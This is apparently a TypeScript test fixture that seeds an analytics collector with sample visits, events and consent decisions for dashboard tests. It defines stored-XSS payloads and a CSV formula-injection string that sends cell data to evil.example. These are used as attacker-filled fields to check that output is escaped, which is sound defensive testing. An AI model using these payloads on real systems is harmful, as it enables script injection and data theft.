import { randomUUID } from 'node:crypto';
import type { ConsentDecision, ConsentMethod, WireEvent } from '../../src/shared/index.js';
import { USER_AGENTS } from './user-agents.js';

/** Stored-XSS payloads, each a logged string the dashboard must show as text and never run. */
export const XSS = {
  img: '<img src=x onerror=alert(1)>',
  svg: '"><svg onload=alert(2)>',
  script: '</script><script>alert(3)</script>',
  js: 'javascript:alert(4)',
} as const;

/** A CSV formula payload: the export must neutralise it (issue 6, item 7). */
export const FORMULA = '=HYPERLINK("http://evil.example/?leak="&A1,"click me")';

const XSS_UA = `Mozilla/5.0 ${XSS.img} ${XSS.svg}`;

export const SITE = 'shop.example';
const ORIGIN = `https://${SITE}`;
const MINUTE = 60_000;
const DAY = 86_400_000;

type EventInit = Partial<WireEvent> & Pick<WireEvent, 'type'>;

/** One wire event with a fresh id; the page and the visitor's ids come with the caller's fields. */
export function wireEvent(init: EventInit): WireEvent {
  return { id: randomUUID(), category: 'analytics', ts: Date.now(), url: `${ORIGIN}/`, ...init };
}

/** POST one real batch to `/v1/events`, as the browser script would, with the given User-Agent. */
export async function postEvents(collector: string, events: WireEvent[], userAgent: string): Promise<void> {
  const response = await fetch(`${collector}/v1/events`, {
    method: 'POST',
    headers: { 'content-type': 'text/plain', 'user-agent': userAgent },
    body: JSON.stringify({ v: 1, site: SITE, events }),
  });
  const reply = (await response.json()) as { accepted?: number; rejected?: unknown[] };
  if (!response.ok || reply.rejected?.length) {
    throw new Error(`seed batch refused: ${response.status} ${JSON.stringify(reply)}`);
  }
}

export async function postConsent(
  collector: string,
  method: ConsentMethod,
  choices: Record<string, boolean>,
  ts: number,
  userAgent: string,
  revision = '2026-11',
): Promise<void> {
  const decision: ConsentDecision = {
    v: 1,
    site: SITE,
    consent_id: randomUUID(),
    policy_revision: revision,
    choices: { necessary: true, ...choices },
    method,
    ts,
    language: 'en',
    url: `${ORIGIN}/`,
  };
  const response = await fetch(`${collector}/v1/consent`, {
    method: 'POST',
    headers: { 'content-type': 'text/plain', 'user-agent': userAgent },
    body: JSON.stringify(decision),
  });
  if (!response.ok) throw new Error(`seed consent refused: ${response.status} ${await response.text()}`);
}

interface Visit {
  ua: string;
  /** Paths viewed in order, a minute apart. */
  paths: string[];
  referrer?: string;
  utm?: Pick<WireEvent, 'utm_source' | 'utm_medium' | 'utm_campaign'>;
  /** Extra fields for every event of the visit (language, screen, title). */
  extra?: Partial<WireEvent>;
  /** Custom events sent after the first pageview. */
  events?: { name: string; props?: WireEvent['props'] }[];
  vitals?: { metric: string; value: number; rating: string }[];
  /** Minutes before now of the first pageview. */
  minutesAgo: number;
}

/** A visit as the script sends it: pageviews, then custom events and vitals on the first page. */
function visitEvents(visit: Visit, now: number): WireEvent[] {
  const visitor = randomUUID();
  const session = randomUUID();
  const start = now - visit.minutesAgo * MINUTE;
  const common = { visitor_id: visitor, session_id: session, ...visit.extra };
  const first = `${ORIGIN}${visit.paths[0]}`;
  const views = visit.paths.map((path, i) =>
    wireEvent({
      ...common,
      ...(i === 0 ? { ...visit.utm, ...(visit.referrer ? { referrer: visit.referrer } : {}) } : {}),
      type: 'pageview',
      ts: start + i * MINUTE,
      url: `${ORIGIN}${path}`,
    }),
  );
  const custom = (visit.events ?? []).map((e, i) =>
    wireEvent({
      ...common,
      type: 'event',
      name: e.name,
      props: e.props ?? {},
      ts: start + 1000 + i,
      url: first,
    }),
  );
  const vitals = (visit.vitals ?? []).map((v, i) =>
    wireEvent({ ...common, type: 'vital', category: 'performance', ...v, ts: start + 2000 + i, url: first }),
  );
  return [...views, ...custom, ...vitals];
}

/** The known visits: varied browsers, pages, referrers, campaigns, events, vitals, a bot, XSS. */
export function dashboardVisits(): Visit[] {
  const { chromeWindows, firefoxLinux, safariIphone, googlebot } = USER_AGENTS;
  return [
    {
      ua: chromeWindows,
      paths: ['/', '/pricing', '/docs'],
      minutesAgo: 50,
      referrer: 'https://news.example.org/post',
    },
    {
      ua: chromeWindows,
      paths: ['/pricing'],
      minutesAgo: 40,
      utm: { utm_source: 'newsletter', utm_medium: 'email', utm_campaign: 'spring' },
      events: [{ name: 'signup', props: { plan: 'pro' } }],
      vitals: [
        { metric: 'LCP', value: 1800, rating: 'good' },
        { metric: 'CLS', value: 0.3, rating: 'poor' },
      ],
    },
    {
      ua: firefoxLinux,
      paths: ['/', '/pricing'],
      // Inside the live view's 30 minutes for the whole test run, not at its edge.
      minutesAgo: 25,
      extra: { language: 'de-DE', screen: '1920x1080' },
      events: [
        { name: 'signup', props: { plan: 'free' } },
        { name: 'outbound', props: { url: 'https://partner.example.net/offer' } },
      ],
      vitals: [{ metric: 'LCP', value: 3000, rating: 'needs-improvement' }],
    },
    { ua: safariIphone, paths: ['/docs'], minutesAgo: 20, referrer: 'https://www.google.com/' },
    { ua: googlebot, paths: ['/', '/pricing', '/docs', '/about'], minutesAgo: 15 },
    {
      // Every logged string a visitor controls, as an attacker would fill it.
      ua: XSS_UA,
      paths: [`/${XSS.img}`],
      minutesAgo: 10,
      referrer: `https://evil.example/${XSS.svg}`,
      utm: { utm_source: XSS.svg, utm_medium: XSS.script, utm_campaign: FORMULA },
      extra: { title: `${XSS.script}${XSS.img}`, language: XSS.img, screen: XSS.svg },
      events: [
        { name: XSS.img, props: { [XSS.svg]: XSS.script, note: FORMULA } },
        { name: 'outbound', props: { url: XSS.js } },
        { name: 'download', props: { url: `${ORIGIN}/files/${XSS.img}.pdf` } },
      ],
    },
    // Last week: the previous period of "7 days".
    { ua: firefoxLinux, paths: ['/', '/docs'], minutesAgo: (8 * DAY) / MINUTE },
  ];
}

/** Seeds the collector through its real endpoints; returns the time the visits were counted back from. */
export async function seedDashboard(collector: string, now = Date.now()): Promise<number> {
  for (const visit of dashboardVisits()) await postEvents(collector, visitEvents(visit, now), visit.ua);
  const decisions: [ConsentMethod, Record<string, boolean>][] = [
    ['accept-all', { analytics: true, performance: true, marketing: true }],
    ['accept-all', { analytics: true, performance: true, marketing: true }],
    ['reject-all', { analytics: false, performance: false, marketing: false }],
    ['custom', { analytics: true, performance: false, marketing: false }],
    ['gpc', { analytics: true, performance: true, marketing: false }],
  ];
  for (const [i, [method, choices]] of decisions.entries()) {
    // Three from Chrome, two from Firefox: the browser filter is the one the consent log can take.
    const ua = i < 3 ? USER_AGENTS.chromeWindows : USER_AGENTS.firefoxLinux;
    await postConsent(collector, method, choices, now - (45 - i) * MINUTE, ua);
  }
  return now;
}

/** One more pageview now (the live view's refresh must pick it up). */
export async function seedLivePageview(collector: string, path: string): Promise<void> {
  const visit = { ua: USER_AGENTS.chromeWindows, paths: [path], minutesAgo: 0 };
  await postEvents(collector, visitEvents(visit, Date.now()), visit.ua);
}
